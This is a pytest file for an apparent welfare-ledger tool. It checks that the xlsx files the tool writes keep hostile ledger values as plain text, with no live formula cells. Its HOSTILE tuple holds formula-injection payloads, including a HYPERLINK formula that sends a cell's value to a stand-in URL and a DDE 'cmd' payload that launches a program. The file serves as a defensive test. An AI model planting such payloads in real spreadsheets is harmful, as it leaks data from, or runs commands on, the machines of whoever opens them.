"""No live formula in any spreadsheet Jiuzhu writes (issue 14): a hostile ledger goes in, every xlsx that
comes out holds its text as text — no formula cell, no ``<f>`` element — and shows it as typed."""

from __future__ import annotations

import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.cli import run
from app.documents.reports import CategoryRow, MonthlyReport, TownshipStats, VillageRow
from app.documents.roster import Roster, RosterLine, township_totals
from app.models.db import Database
from app.paths import DataPaths
from app.spreadsheets import safe
from app.spreadsheets.reports import write_monthly
from app.spreadsheets.roster import write_roster
from app.spreadsheets.village_stats import write_village_stats
from tests.spreadsheets.ledgers import add_villages, numbered_ledger, pid

HOSTILE = (
    '=HYPERLINK("http://x?q="&H4,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "#N/A",
)


def assert_inert(path: Path) -> set[str]:
    """No formula cell and no ``<f>`` element anywhere in ``path``; returns every text value seen."""
    seen: set[str] = set()
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
                else:
                    assert not str(cell.value or "").startswith("="), (ws.title, cell.coordinate)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, (path.name, name)
    return seen


def jiuzhu(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = run(list(args))
    out = capsys.readouterr()
    return code, out.out, out.err


def test_a_hostile_ledger_round_trip_writes_no_formula(
    capsys: pytest.CaptureFixture[str], station: Database, paths: DataPaths, tmp_path: Path
) -> None:
    add_villages(station)
    header = ["序号", "村(社区)", "户主姓名", "姓名", "与户主关系", "身份证号码", "性别", "月保障金（元）"]
    header += ["保障类别", "家庭住址", "联系电话", "开户银行", "备注"]
    names = ("张三", "李四", "王五", "赵六", "钱七", "孙八", "周九")
    short = '=HYPERLINK("http://x")'  # the phone column holds at most 30 characters
    rows: list[list[object]] = [
        [
            n + 1,
            "东山村",
            name,
            name,
            "户主",
            pid(date(1960, 1, n + 1), 11 + 2 * n),
            "男",
            300,
            "农村低保",
            bad,
            bad if len(bad) <= 30 else short,
            bad,
            bad,
        ]  # 家庭住址 联系电话 开户银行 备注
        for n, (name, bad) in enumerate(zip(names, HOSTILE[:7], strict=True))
    ]
    rows.append([8, "东山村", "吴十", "吴十", "户主", "4306231990", "男", 300, "农村低保", *HOSTILE[:4]])
    ledger = numbered_ledger(tmp_path / "台账.xlsx", rows, header)
    wb = load_workbook(ledger)  # typed text, as a clerk's 台账 holds it: string cells, not formulas
    assert safe.defuse(wb) > 0
    wb.save(ledger)
    d = str(paths.root)
    errors = tmp_path / "问题.xlsx"
    code, out, err = jiuzhu(capsys, "--data-dir", d, "import-ledger", str(ledger), "--errors", str(errors))
    assert code == 1, out + err
    code, out, err = jiuzhu(capsys, "--data-dir", d, "import-ledger", str(ledger), "--accept-partial")
    assert code == 0 and "已新建7户" in out, out + err
    assert set(HOSTILE[:4]) <= assert_inert(errors)  # copied from the source rows, as typed
    exported = tmp_path / "导出.xlsx"
    code, out, err = jiuzhu(capsys, "--data-dir", d, "export-ledger", "--out", str(exported))
    assert code == 0, err
    seen = assert_inert(exported)
    assert '=HYPERLINK("http://x?q="&H4,"点击")' in seen and "=cmd|' /C calc'!A0" in seen
    assert {"+1+1", "-2+3"} <= seen


def test_roster_report_and_stats_hold_text_as_text(tmp_path: Path) -> None:
    lines = [
        RosterLine(n, bad, bad, bad, "43062319900101001X", 1, bad, 30000, 0, 30000, bad, bad, bad)
        for n, bad in enumerate(HOSTILE, start=1)
    ]
    roster = Roster(HOSTILE[0], HOSTILE[1], "2026-03", "approved", lines, date(2026, 3, 5))
    roster.townships = township_totals(lines)
    assert set(HOSTILE) <= assert_inert(write_roster(tmp_path / "名册.xlsx", roster))
    rows = [VillageRow("430623101201", bad, bad, 1, 1, 100) for bad in HOSTILE]
    stats = write_village_stats(tmp_path / "统计.xlsx", TownshipStats(HOSTILE[0], date(2026, 3, 5), rows))
    assert set(HOSTILE) <= assert_inert(stats)
    report = MonthlyReport(
        HOSTILE[0], HOSTILE[1], "2026-03", "runs", [CategoryRow(bad) for bad in HOSTILE], CategoryRow("合计"),
        [(bad, 1, 100) for bad in HOSTILE],
    )  # fmt: skip
    assert set(HOSTILE[2:]) <= assert_inert(write_monthly(tmp_path / "月报.xlsx", report))


def test_the_helpers() -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    safe.append(ws, ["=1+1", "+1", 3, None])
    assert [c.data_type for c in ws[1]][:3] == ["s", "s", "n"]
    ws["D1"] = "=SUM(A1)"  # set around the helpers: the last sweep before saving catches it
    assert safe.defuse(wb) == 1 and ws["D1"].data_type == "s" and ws["D1"].value == "=SUM(A1)"
    assert safe.put(ws, 2, 1, "=2").data_type == "s"
    assert [safe.csv_text(v) for v in ("=1", "+1", "-1", "@a", "\t1", "\r1", "a=1", 5)] == [
        "'=1", "'+1", "'-1", "'@a", "'\t1", "'\r1", "a=1", 5,
    ]  # fmt: skip
